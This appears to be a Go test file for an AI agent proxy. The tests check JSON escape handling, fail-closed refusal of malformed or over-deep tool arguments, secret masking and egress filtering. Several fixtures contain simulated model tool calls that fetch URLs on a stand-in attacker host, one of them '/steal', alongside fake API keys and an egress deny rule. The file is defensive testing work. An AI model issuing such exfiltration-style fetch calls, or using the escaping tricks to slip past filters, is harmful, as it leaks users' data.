package proxy

import (
	"context"
	"encoding/json"
	"strings"
	"testing"

	"github.com/tidwall/gjson"

	"github.com/hooksproxy/hooksproxy/points"
)

func TestMinimalEscapes(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`{"a":"b"}`, `{"a":"b"}`},
		{`{"u":"https:\/\/x.example\/p"}`, `{"u":"https://x.example/p"}`},
		{`{"k":"sk-proj-AB\u0043D"}`, `{"k":"sk-proj-ABCD"}`},
		{`{"k":"caf\u00e9"}`, `{"k":"café"}`},
		{`{"q":"\"\\\n\u0022\u005c\u0001\ud83d\ude00"}`, `{"q":"\"\\\n\u0022\u005c\u0001\ud83d\ude00"}`},
		{`{"k":"trunc\u00`, `{"k":"trunc\u00`},
		{`{"k":"end\`, `{"k":"end\`},
		{`{"k\/":1}`, `{"k/":1}`},
		{`x\/y`, `x\/y`}, // outside a string nothing is rewritten
	} {
		if got := points.MinimalEscapes(tc.in); got != tc.want {
			t.Errorf("points.MinimalEscapes(%s) = %s, want %s", tc.in, got, tc.want)
		}
		if gjson.Valid(tc.in) && !gjson.Valid(points.MinimalEscapes(tc.in)) {
			t.Errorf("points.MinimalEscapes(%s) made valid JSON invalid", tc.in)
		}
	}
}

func FuzzMinimalEscapes(f *testing.F) {
	for _, s := range []string{`{"u":"https:\/\/x"}`, `{"k":"\u0041\ud800"}`, `"\u00e9\/"`, `{"a":"\`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := points.MinimalEscapes(s)
		if gjson.Valid(s) {
			if !gjson.Valid(out) {
				t.Fatalf("valid %q became invalid %q", s, out)
			}
			if a, b := gjson.Parse(s), gjson.Parse(out); a.Type == gjson.String && a.Str != b.Str {
				t.Fatalf("%q and %q decode differently", s, out)
			}
		}
	})
}

func TestArgsObjectOutsideDomain(t *testing.T) {
	for _, tc := range []struct {
		name, args string
		raw        bool   // kept as the arguments themselves (the emission refuses them)
		wrapped    string // else the raw_arguments text
	}{
		{"object", `{"a":1}`, true, ""},
		{"overflow", `{"url":"https:\/\/evil.example/x","n":1e400}`, true, ""},
		{"lone surrogate", `{"url":"x","z":"\ud800"}`, true, ""},
		{"duplicate", `{"url":"a","url":"b"}`, true, ""},
		{"truncated", `{"url":"https:\/\/evil.example/x","k":"sk-AB\u0043`, false, `{"url":"https://evil.example/x","k":"sk-ABC`},
		{"array", `["https:\/\/evil.example"]`, false, `["https://evil.example"]`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := argsObject(tc.args)
			if tc.raw {
				if string(got) != tc.args {
					t.Fatalf("got %s, want the arguments unchanged", got)
				}
				return
			}
			if ra := gjson.GetBytes(got, "raw_arguments"); ra.Str != tc.wrapped {
				t.Fatalf("raw_arguments = %q, want %q", ra.Str, tc.wrapped)
			}
		})
	}
}

// A tool call whose arguments a client parses but the contract's value
// domain refuses fails closed; it is never judged as its escaped text.
func TestToolArgumentsOutsideDomainFailClosed(t *testing.T) {
	for _, args := range []string{
		`{\"url\":\"https:\\/\\/evil.example/x\",\"n\":1e400}`,
		`{\"url\":\"a\",\"url\":\"https:\\/\\/evil.example/x\"}`,
		`{\"k\":\"\\ud800\"}`,
		// Nested past the depth bound: judged as wrapper text, a member an
		// argument rule names would resolve to nothing.
		`{\"url\":\"http://evil.example/steal\",\"pad\":` + strings.Repeat("[", 200) + strings.Repeat("]", 200) + `}`,
	} {
		up, _ := seqUpstream(t, fetchCall(args, "tool_calls"))
		p := seamProxy(t, up.URL, allowAll())
		r, b := post(t, p.URL, `{"model":"m","messages":[{"role":"user","content":"go"}]}`)
		if r.StatusCode != 503 || gjson.GetBytes(b, "error.code").Str != string(points.ReasonContextInvalid) {
			t.Fatalf("%s: %d %s", args, r.StatusCode, b)
		}
		if strings.Contains(string(b), "evil") {
			t.Fatalf("denied payload in the answer: %s", b)
		}
	}
}

// Truncated arguments are judged in the text a lenient decoder reads.
func TestTruncatedArgumentsJudgedDecoded(t *testing.T) {
	up, _ := seqUpstream(t, fetchCall(`{\"url\":\"https:\\/\\/evil.example`, "length"))
	var seen string
	p := seamProxy(t, up.URL, points.Binding{Name: "egress", Interceptor: points.InterceptorFunc(func(_ context.Context, c *points.Context) (points.Verdict, error) {
		if c.Point() == points.PreToolCall {
			seen = c.Get("tool_call.args.raw_arguments").Str
			if strings.Contains(seen, "https://evil.example") {
				return points.Deny("egress_denied", ""), nil
			}
		}
		return points.Allow(), nil
	})})
	r, b := post(t, p.URL, `{"model":"m","messages":[{"role":"user","content":"go"}]}`)
	if strings.Contains(string(b), "evil") || seen != `{"url":"https://evil.example` {
		t.Fatalf("%d %s (judged %q)", r.StatusCode, b, seen)
	}
}

// A role:tool result that parses as JSON outside the value domain is not
// judged as its escaped text: post_tool_call refuses it.
func TestToolResultOutsideDomainFailsClosed(t *testing.T) {
	up, got := seqUpstream(t, plainCompletion)
	p := seamProxy(t, up.URL, allowAll())
	sid := "sess-dup"
	if r, b := hostCall(t, p.URL+"/agent-hooks/v1/sessions/"+sid+"/tool-calls/call_a/pre", `{"name":"read","args":{}}`); r.StatusCode != 200 {
		t.Fatalf("pre: %s", b)
	}
	body := `{"model":"m","messages":[{"role":"user","content":"go"},{"role":"assistant","content":null,"tool_calls":[{"id":"call_a","type":"function","function":{"name":"read","arguments":"{}"}}]},` +
		`{"role":"tool","tool_call_id":"call_a","content":"{\"k\":\"sk-proj-AB\\u0043\",\"k\":\"x\"}"}]}`
	r, b := post(t, p.URL, body, "X-Agent-Hooks-Session", sid)
	var rec *points.Record
	for _, x := range p.sink.Records() {
		if x.InterceptionPoint == points.PostToolCall {
			rec = x
		}
	}
	if rec == nil || rec.Verdict.Reason != string(points.ReasonContextInvalid) {
		t.Fatalf("post_tool_call record %+v (%d %s)", rec, r.StatusCode, b)
	}
	for _, sent := range got() {
		if strings.Contains(sent, `sk-proj-AB`) {
			t.Fatalf("refused result reached the model: %s", sent)
		}
	}
}

// An answer made of content parts keeps its parts through a transform.
func TestContentPartsTransformWrittenBack(t *testing.T) {
	completion := `{"id":"c","object":"chat.completion","created":1,"model":"m","choices":[{"index":0,"message":{"role":"assistant","content":[{"type":"text","text":"key sk-proj-ABCDEFGHIJKLMNOPQRSTUVWXYZ123456"}]},"finish_reason":"stop"}]}`
	for _, p := range []points.Point{points.PostModelCall, points.Output} {
		t.Run(string(p), func(t *testing.T) {
			up, _ := seqUpstream(t, completion)
			px := newProxy(t, up.URL, at(p, "mask", func(c *points.Context) (points.Verdict, error) {
				return points.Replace("$target.content", []byte(`[{"type":"text","text":"key [REDACTED]"}]`)), nil
			}), allowAll())
			r, b := post(t, px.URL, hello)
			if r.StatusCode != 200 || gjson.GetBytes(b, "choices.0.message.content.0.text").Str != "key [REDACTED]" {
				t.Fatalf("%d %s", r.StatusCode, b)
			}
		})
	}
	// A transform that turns parts into a number has no chat form: it fails closed.
	up, _ := seqUpstream(t, completion)
	px := newProxy(t, up.URL, at(points.PostModelCall, "num", func(c *points.Context) (points.Verdict, error) {
		return points.Replace("$target.content", []byte(`7`)), nil
	}), allowAll())
	if r, b := post(t, px.URL, hello); r.StatusCode != 503 || strings.Contains(string(b), "sk-proj") {
		t.Fatalf("%d %s", r.StatusCode, b)
	}
}

// A transform that makes the answer an object (the contract allows it)
// reaches the client as the object's JSON text, streamed or not.
func TestObjectContentTransformSentAsJSONText(t *testing.T) {
	for _, stream := range []bool{false, true} {
		body, req := plainCompletion, hello
		if stream {
			body, req = textStream, helloStream
		}
		up, _ := upstream(t, body, stream, 64)
		px := newProxy(t, up.URL, at(points.Output, "obj", func(c *points.Context) (points.Verdict, error) {
			return points.Replace("$target.content", []byte(`{"a": 1}`)), nil
		}), allowAll())
		r, b := post(t, px.URL, req)
		if r.StatusCode != 200 || !strings.Contains(string(b), `{\"a\":1}`) {
			t.Fatalf("stream=%v: %d %s", stream, r.StatusCode, b)
		}
		if n := count(px.sink, points.Output); n != 1 {
			t.Fatalf("stream=%v: %d output records", stream, n)
		}
	}
}

// Arguments nested past the depth bound become a value the emission
// refuses, whatever their syntax.
func TestDeepToolArgumentsRefused(t *testing.T) {
	deep := strings.Repeat("[", 200) + strings.Repeat("]", 200)
	for _, args := range []string{`{"a":` + deep + `}`, `{"a":` + deep} {
		if got := argsObject(args); points.DepthWithin(got, points.DefaultMaxDepth) || got[0] != '{' {
			t.Fatalf("%.20s... became %.40s, within the depth bound or not an object", args, got)
		}
	}
	// End to end the record names the depth, not the arguments' type.
	deepArgs := strings.Repeat(`{\"a\":`, 129) + "1" + strings.Repeat("}", 129)
	up, _ := seqUpstream(t, fetchCall(deepArgs, "tool_calls"))
	p := newProxy(t, up.URL, allowAll())
	if r, b := post(t, p.URL, hello); r.StatusCode != 503 {
		t.Fatalf("%d %s", r.StatusCode, b)
	}
	var post *points.Record
	for _, r := range p.sink.Records() {
		if r.InterceptionPoint == points.PostModelCall {
			post = r
		}
	}
	if post == nil || post.Verdict.Reason != points.ReasonContextInvalid || !strings.Contains(post.Verdict.Message, "depth") {
		t.Fatalf("post_model_call record: %+v", post)
	}
}

// fetchCall is a chat.completion calling fetch once (call_a) with args, an
// arguments string already escaped for a JSON string, and finish reason.
func fetchCall(args, finish string) string {
	return `{"id":"c","object":"chat.completion","created":1,"model":"m","choices":[{"index":0,"message":{"role":"assistant","content":null,"tool_calls":[` +
		`{"id":"call_a","type":"function","function":{"name":"fetch","arguments":"` + args + `"}}]},"finish_reason":"` + finish + `"}]}`
}

func TestAppendStringMatchesMarshal(t *testing.T) {
	// appendString's fast path must write what json.Marshal writes.
	for _, s := range []string{"", "req_0123abcd", "gpt-4o-mini", "a b~", "\x7f", "q\"", `b\s`, "<x>", "a&b", "tab\t", "café", "\u2028", "\xff", strings.Repeat("x", 300)} {
		want, _ := json.Marshal(s)
		if got := appendString([]byte("p"), s); string(got) != "p"+string(want) {
			t.Errorf("appendString(%q) = %s, want p%s", s, got, want)
		}
		if got := quoteJSON(s); string(got) != string(want) {
			t.Errorf("quoteJSON(%q) = %s, want %s", s, got, want)
		}
	}
}
